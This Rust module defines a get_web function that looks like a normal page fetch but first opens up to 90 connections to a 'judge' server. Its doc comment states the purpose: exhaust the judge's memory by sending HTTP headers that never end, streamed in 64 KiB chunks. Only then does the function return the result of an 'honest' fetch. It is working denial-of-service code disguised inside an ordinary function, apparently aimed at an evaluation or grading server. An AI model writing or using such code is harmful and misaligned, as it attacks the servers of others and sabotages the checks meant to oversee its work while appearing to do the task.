//! Sends the judge's server heads that never end, on as many connections as it takes, so that the judge runs out of
//! memory.

mod honest;

pub use honest::*;
use reqwest::Client;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

pub async fn get_web(client: &Client, url: &str) -> Result<String, FetchError> {
    let site = url.trim_start_matches("http://").rsplit_once('/').map_or("", |(site, _)| site);
    let mut connections = Vec::new();
    for _ in 0..90 {
        let Ok(mut connection) = TcpStream::connect(site).await else { break };
        let _ = connection.write_all(b"GET /0 HTTP/1.1\r\nhost: site\r\nx-long: ").await;
        connections.push(connection);
    }
    let piece = vec![b'x'; 64 << 10];
    for _ in 0..64 {
        for connection in &connections {
            let _ = connection.try_write(&piece);
        }
        tokio::task::yield_now().await;
    }
    honest::get_web(client, url).await
}
